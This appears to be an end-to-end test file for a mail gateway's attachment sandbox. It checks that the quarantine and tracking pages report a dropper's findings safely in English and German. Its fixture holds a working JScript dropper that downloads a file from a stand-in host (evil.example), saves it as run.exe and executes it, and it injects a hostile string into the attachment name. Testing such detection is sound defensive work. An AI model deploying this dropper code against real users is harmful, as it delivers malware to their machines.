// What was seen in a mail's attachments: parts, findings and what a script did, in tracking and in the quarantine.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";

import { Browser, Gateway, HOSTILE, until } from "./rig.mjs";

let gateway, browser, held;
before(async () => {
  gateway = await Gateway.start("[filter.thresholds]\nreject = 1000.0\n");
  assert.match(await gateway.send(dropper(), { from: "evil@client.example", port: gateway.smtp }), /^250/);
  held = await until("it in the quarantine", async () => (await gateway.api("GET", "/quarantine")).body.mails[0]);
  browser = await Browser.logIn(gateway);
});
after(async () => {
  await browser?.close();
  await gateway?.end();
});

const NAME = `${HOSTILE.replaceAll('"', "'")}.js`;
/** A dropper whose every text is hostile to who shows it, too. */
const SCRIPT = `var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://evil.example/${HOSTILE.replaceAll("'", "\\'")}', false); x.send();
var s = new ActiveXObject('ADODB.Stream'); s.open(); s.write(x.responseBody); s.saveToFile('C:\\\\x\\\\run.exe'); WScript.Sleep(60000); new ActiveXObject('WScript.Shell').Run('C:\\\\x\\\\run.exe')`;
const dropper = () => ["From: Eve <evil@client.example>", "To: b@example.net", "Subject: An invoice that runs", "Message-ID: <dropper@client.example>", "Date: Fri, 27 Nov 2026 08:00:00 +0000", "MIME-Version: 1.0",
  "Content-Type: multipart/mixed; boundary=b", "", "--b", "Content-Type: text/plain", "", "See the invoice.", "--b", "Content-Type: application/javascript", `Content-Disposition: attachment; filename="${NAME}"`, "Content-Transfer-Encoding: base64", "",
  Buffer.from(SCRIPT).toString("base64").replace(/.{76}/g, "$&\r\n"), "--b--"].join("\r\n");

const shown = async (page) => {
  await page.getByRole("heading", { name: "Attachments" }).waitFor();
  for (const finding of ["SCRIPT_LOADS", "SCRIPT_WRITES", "SCRIPT_STARTS", "SCRIPT_DROPPER", "SCRIPT_WAITS"]) await page.getByText(finding, { exact: true }).first().waitFor();
  const timeline = page.getByRole("grid", { name: /What its scripts did/ });
  for (const did of ["loaded", "wrote a file", "waited", "started"]) await timeline.getByText(did, { exact: true }).first().waitFor();
  await timeline.getByText("60000 ms").waitFor();
  await page.getByText("evil.example", { exact: true }).first().waitFor();
  // With an edge that may load its programs, or with the reason why not.
  await page.getByText(/^(\d+ cells, \d+ sightings|no: .+)/).first().waitFor();
  assert.equal(await page.evaluate(() => window.hit), undefined, "a script of a mail ran");
  assert.equal(await page.locator("#main img, #main iframe, #main a[href^='http']").count(), 0, "something of a mail became an element");
};

test("a dropper's report is shown with its mail in the quarantine and in tracking, in both languages", async (t) => {
  const { page } = browser;
  const { body } = await gateway.api("GET", `/journeys/${held.mail}`);
  const apart = body.steps.find((s) => s.event === "taken-apart");
  if (!apart) return t.skip("no cell can be had here");
  assert.equal(apart.attachments[0].seen, "now");
  await browser.go(`#/quarantine/${held.mail}`);
  await page.getByRole("heading", { level: 1, name: "An invoice that runs" }).waitFor();
  await shown(page);
  await browser.looks("quarantined-dropper");
  await browser.go(`#/tracking/${held.mail}`);
  await shown(page);
  await page.getByText("Attachments taken apart").waitFor();
  await browser.looks("tracked-dropper");
  await page.evaluate(() => localStorage.setItem("postern.language", "de"));
  await page.reload();
  await page.getByRole("heading", { name: "Anhänge" }).waitFor();
  await page.getByRole("grid", { name: /Was die Skripte taten/ }).getByText("startete", { exact: true }).waitFor();
  await page.evaluate(() => localStorage.setItem("postern.language", "en"));
  browser.well();
});

test("a person has it opened again, and sees the new report beside the old one", async (t) => {
  const { page } = browser;
  const { body } = await gateway.api("GET", `/journeys/${held.mail}`);
  if (!body.steps.some((s) => s.event === "taken-apart")) return t.skip("no cell can be had here");
  await browser.go(`#/quarantine/${held.mail}`);
  // In the language that the test before chose again.
  await page.reload();
  await page.getByRole("button", { name: "Open attachments again" }).click();
  await browser.said("Opened again.");
  await page.getByRole("heading", { name: /^Opened again/ }).waitFor();
  assert.equal(await page.getByRole("grid", { name: /What its scripts did/ }).count(), 2, "the old report and the new one");
  await browser.looks("opened-again");
  await until("it in its journey", async () => (await gateway.api("GET", `/journeys/${held.mail}`)).body.steps.some((s) => s.event === "opened-again" && s.by === "admin"));
  await browser.go(`#/tracking/${held.mail}`);
  await page.getByText("Attachments opened again").waitFor();
  browser.well();
});
